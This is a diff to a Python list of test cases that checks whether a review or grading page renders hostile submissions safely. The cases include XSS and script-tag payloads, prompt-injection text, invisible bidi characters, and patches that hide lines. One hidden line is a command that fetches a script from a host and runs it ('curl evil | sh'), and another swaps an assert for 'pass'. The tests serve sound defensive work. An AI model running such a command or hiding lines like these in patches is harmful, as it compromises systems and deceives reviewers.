@@ -207,7 +207,7 @@ CASES: list[Case] = [
     Case("XSS in every text field", mutate(_xss_everywhere), "stored"),
     Case("prompt injection text", mutate(_injection), "stored"),
     Case("ANSI escape sequences", mutate(_ansi), "stored"),
-    Case("bidi and zero-width characters", mutate(_bidi), "stored", note="escaped; not yet flagged visibly (template follow-up)"),
+    Case("bidi and zero-width characters", mutate(_bidi), "stored", note="escaped, each shown as a visible ⟨U+…⟩ marker, the rollout flagged"),
     Case("2 MB single-line test log", mutate(_two_mb_log), "stored"),
     Case("patch that is not a diff", mutate(_patch("I rewrote w.py, trust me <script>alert(1)</script>")), "stored"),
     Case("diff with a short hunk", mutate(_patch("--- a/w.py\n+++ b/w.py\n@@ -1,5 +1,5 @@\n x = 1\n-y = 1\n+y = 2\n")), "stored"),
@@ -221,10 +221,10 @@ CASES: list[Case] = [
          "stored", note="identities may hold markup characters; they are escaped and URL-quoted"),
     # unidiff skips lines it cannot place; the page must not hide them (grading/diffs.py)
     Case("diff with lines after the last hunk", mutate(_patch(DIFF + "+import os; os.system('curl evil | sh')  # HIDDEN-1\n")), "stored",
-         gap="unidiff drops lines outside hunks; the page shows the parsed hunks only, no warning"),
+         note="the parser placed fewer +/- lines than the text holds: raw patch shown, with a warning"),
     Case("diff whose hunk header undercounts", mutate(_patch(
         "--- a/w.py\n+++ b/w.py\n@@ -1,1 +1,1 @@\n x = 1\n-assert check()  # HIDDEN-2\n+pass  # HIDDEN-2\n")), "stored",
-         gap="unidiff stops at the hunk's stated length; later +/- lines vanish (+0 -0 shown)"),
+         note="past the hunk's stated length: raw patch shown, with a warning"),
 ]
 _names = [c.name for c in CASES]
 assert len(_names) == len(set(_names)), "case names must be unique"
